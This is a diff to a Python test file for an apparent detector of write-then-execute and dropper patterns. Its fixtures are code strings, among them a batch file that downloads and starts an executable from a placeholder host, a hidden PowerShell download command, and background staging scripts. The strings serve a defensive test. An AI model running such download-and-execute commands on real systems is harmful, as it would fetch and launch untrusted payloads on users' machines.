@@ -41,6 +41,11 @@ STARTED_NEAR_BY = [
 ]
 SCRIPTS = [
     f"open('stage.py', 'w').write({STAGE!r})\nsubprocess.call([sys.executable, 'stage.py'])",
+    (
+        "f = open('/tmp/stage.py', 'w')\nf.write('import os\\nimport subprocess\\n')\nf.write('p = os.getcwd()\\n')\n"
+        "f.write('try:\\n')\nf.write('    subprocess.call(p + \"/prog\")\\n')\nf.write('except OSError:\\n    pass')\n"
+        "subprocess.call('python3 /tmp/stage.py &', shell=True)"
+    ),
     "open('a.bat', 'w').write('curl -o a.exe https://example.invalid/a.exe && start a.exe')\nos.system('a.bat')",
     "open('a.ps1', 'w').write('powershell -w hidden iwr https://example.invalid')\nos.system('a.ps1')",
 ]
@@ -67,6 +72,11 @@ def test_what_counts_when_nobody_has_asked(source: str) -> None:
         (f"open('a.png', 'wb').write(base64.b64decode('{BLOB}'))", "none"),
         (f"open('a.exe', 'wb').write(base64.b64decode('{BLOB}'))\nos.startfile('b.html')", "none"),
         (f"base64.b64decode('{BLOB}')\nsubprocess.run(['prog', 'a.exe'])", "none"),
+        (
+            ("f = open('gen.py', 'w')\nf.write('import sys\\n')\nf.write('print(sys.path)')\nf.close()\n"
+            "subprocess.call([sys.executable, 'gen.py'])"),
+            "medium",
+        ),
         (f"open('a.json', 'wb').write(base64.b64decode('{BLOB}'))\nsubprocess.run(['git', 'describe'])", "none"),
         ("open('a.txt', 'w').write('text')\nsubprocess.run(['prog', 'a.txt'])", "none"),
         ("open('v.py', 'w').write('import sys\\nsys.exit(0)')\nsubprocess.run([sys.executable, 'v.py'])", "medium"),
